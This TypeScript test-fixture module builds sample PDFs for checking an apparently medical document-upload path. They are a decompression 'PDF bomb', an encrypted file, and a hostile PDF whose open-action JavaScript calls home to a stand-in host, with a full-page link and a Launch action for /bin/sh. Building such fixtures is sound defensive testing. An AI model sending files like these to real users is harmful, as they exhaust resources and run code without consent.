import { deflateSync } from 'node:zlib';

// PDF files as patients send them, and as those who mean harm do: whole, with their table of objects.

type Page = {
  /** A line each, in Helvetica, which every reader has and no file brings. */
  readonly lines?: readonly string[];
  /** Width and height in points; A4. */
  readonly size?: readonly [number, number];
  /** What else stands in the page's dictionary. */
  readonly more?: string;
  /** A black square as a fax machine packs it (CCITT, group 4), in the lower left corner. */
  readonly faxed?: boolean;
  /** What it is drawn by, in place of lines: packed twice over, as one does who wants much to come of little. */
  readonly packed?: string;
};

type More = {
  /** What else stands in the catalogue. */
  readonly catalogue?: string;
  readonly trailer?: string;
};

/** Nothing but the table, so that what a test adds is seen. */
export function aPdfOf(pages: readonly Page[], { catalogue = '', trailer = '' }: More = {}): Buffer {
  const first = 5;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    `<< /Type /Pages /Count ${pages.length} /Kids [${pages.map((_page, at) => `${first + 2 * at} 0 R`).join(' ')}] >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    stream(
      '/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 1 /Decode [1 0] ' +
        '/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 8 /Rows 8 >>',
      // Eight lines like the white one before them, a bit each; the decoding turns them black.
      '\u00FF\u0000\u0010\u0001\u0000\u0010\u0001',
    ),
    ...pages.flatMap((page, at) => {
      const [width, height] = page.size ?? [595, 842];
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${width} ${height}] /Contents ${first + 2 * at + 1} 0 R ` +
          `/Resources << /Font << /F1 3 0 R >> /XObject << /Fax 4 0 R >> >> ${page.more ?? ''} >>`,
        page.packed === undefined ? stream('', drawnBy(page)) : packedTwice(page.packed),
      ];
    }),
  ];
  let file = '%PDF-1.7\n';
  const places = objects.map((object, at) => {
    const place = file.length;
    file += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  const end = `trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${file.length}\n%%EOF\n`;
  return Buffer.from(`${file}xref\n0 ${size}\n0000000000 65535 f \n${table}${end}`, 'latin1');
}

function stream(dictionary: string, content: string): string {
  return `<< ${dictionary} /Length ${content.length} >>\nstream\n${content}\nendstream`;
}

function packedTwice(content: string): string {
  const packed = deflateSync(deflateSync(Buffer.from(content, 'latin1')));
  return stream('/Filter [/FlateDecode /FlateDecode]', packed.toString('latin1'));
}

function drawnBy({ lines = [], faxed = false }: Page): string {
  const text = lines.map((line) => `(${line}) Tj T*`).join('\n');
  return `BT /F1 18 Tf 24 TL 60 760 Td\n${text}\nET\n${faxed ? 'q 100 0 0 100 60 60 cm /Fax Do Q' : ''}`;
}

/** Three million steps that draw nothing. */
const STEPS = 'q Q '.repeat(1_500_000);
/** Blanks, for which a buffer is doubled until it holds it. */
const BLANKS = ' '.repeat(300_000_000);

/** A few kilobytes; the middle pages ask for gigabytes when they are drawn. */
export const aPdfBomb = () =>
  aPdfOf([{ lines: ['Før bomben'] }, { packed: STEPS }, { packed: BLANKS }, { lines: ['Etter bomben'] }]);

const HEX = 'a1'.repeat(32);

/** Opens with a password that nobody here has. */
export const A_LOCKED_PDF = aPdfOf([{ lines: ['Hemmelig'] }], {
  trailer: `/ID [<${HEX}> <${HEX}>] /Encrypt << /Filter /Standard /V 1 /R 2 /O <${HEX}> /U <${HEX}> /P -4 >>`,
});

const CALLS_HOME = 'https://elsewhere.example/home';
const SCRIPT = `/S /JavaScript /JS (globalThis.taken = 1; app.launchURL\\('${CALLS_HOME}'\\))`;

/** Does what a PDF can do by itself: a script when it is opened, a link and a program over the whole page. */
export const A_HOSTILE_PDF = aPdfOf(
  [
    {
      lines: ['Se vedlagt epikrise'],
      more:
        `/AA << /O << ${SCRIPT} >> >> /Annots [` +
        `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${CALLS_HOME}) >> >> ` +
        '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (/bin/sh) >> >>]',
    },
  ],
  { catalogue: `/OpenAction << ${SCRIPT} >> /Names << /JavaScript << /Names [(a) << ${SCRIPT} >>] >> >>` },
);
